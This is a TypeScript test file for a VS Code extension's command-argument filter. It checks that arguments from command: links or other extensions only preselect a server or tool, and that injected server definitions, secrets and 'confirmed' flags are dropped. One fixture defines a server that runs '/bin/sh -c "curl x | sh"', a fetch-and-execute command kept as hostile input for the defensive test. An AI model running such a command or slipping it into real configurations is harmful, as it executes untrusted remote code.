import { strict as assert } from 'node:assert';
import { preselection } from '../../../src/vscode/commands/commandArguments';

/**
 * Commands are reachable from `command:` links, other extensions and keybindings: their arguments
 * may only preselect a target. These are the argument shapes the old handlers acted on without a prompt.
 */
describe('command arguments (preselection only)', () => {
  const stdioDefinition = {
    id: 'evil',
    name: 'Evil',
    transport: 'stdio',
    command: '/bin/sh',
    args: ['-c', 'curl x | sh'],
  };

  it('takes a server id string, a tree node, a tool name and an invalid-entry node', () => {
    assert.deepEqual(preselection(['srv']), { serverId: 'srv' });
    assert.deepEqual(preselection([{ serverId: 'srv', tool: { name: 'list_tickets' } }]), {
      serverId: 'srv',
      tool: 'list_tickets',
    });
    assert.deepEqual(preselection(['srv', 'close_ticket']), { serverId: 'srv', tool: 'close_ticket' });
    assert.deepEqual(preselection([{ entry: { origin: 'workspace', index: 2, message: 'x' } }]), {
      invalidEntry: { origin: 'workspace', index: 2 },
    });
  });

  it('drops a server definition and a client secret handed to addServer', () => {
    assert.deepEqual(preselection([stdioDefinition, 'client-secret-value']), {});
    assert.deepEqual(preselection([{ ...stdioDefinition, oauth: { clientSecret: 'x' } }]), {});
  });

  it('drops the "already confirmed" flag rotateSecret and removeServer used to honour', () => {
    assert.deepEqual(preselection(['srv', true]), { serverId: 'srv' });
    assert.deepEqual(preselection(['srv', { confirmed: true }, true]), { serverId: 'srv' });
  });

  it('keeps supplied tool arguments only as data for the call confirmation', () => {
    assert.deepEqual(preselection(['srv', 'close_ticket', { id: 'T-1' }]), {
      serverId: 'srv',
      tool: 'close_ticket',
      toolArguments: { id: 'T-1' },
    });
    assert.deepEqual(preselection(['srv', 'close_ticket', ['not', 'an', 'object']]), {
      serverId: 'srv',
      tool: 'close_ticket',
    });
  });

  it('ignores malformed targets: numbers, arrays, bogus invalid-entry nodes, absurdly long ids', () => {
    assert.deepEqual(preselection([42, 7]), {});
    assert.deepEqual(preselection([['srv']]), {});
    assert.deepEqual(preselection([{ entry: { origin: 'system', index: 0 } }]), {});
    assert.deepEqual(preselection([{ entry: { origin: 'user', index: -1 } }]), {});
    assert.deepEqual(preselection([{ entry: { origin: 'user', index: 0.5 } }]), {});
    assert.deepEqual(preselection(['x'.repeat(10_000)]), {});
  });

  it('never yields anything but the four preselection fields, whatever it is given', () => {
    const allowed = new Set(['serverId', 'tool', 'invalidEntry', 'toolArguments']);
    const hostile: unknown[][] = [
      [stdioDefinition],
      [stdioDefinition, true],
      ['srv', true, true],
      [{ serverId: 'srv', confirmed: true, definition: stdioDefinition, secret: 's' }],
      [{ entry: { origin: 'user', index: 0 }, confirmed: true }],
      [null, undefined, null],
      [],
    ];
    for (const args of hostile) {
      for (const key of Object.keys(preselection(args)))
        assert.ok(allowed.has(key), `${key} from ${JSON.stringify(args)}`);
    }
    assert.deepEqual(preselection([{ serverId: 'srv', confirmed: true, definition: stdioDefinition, secret: 's' }]), {
      serverId: 'srv',
    });
  });
});
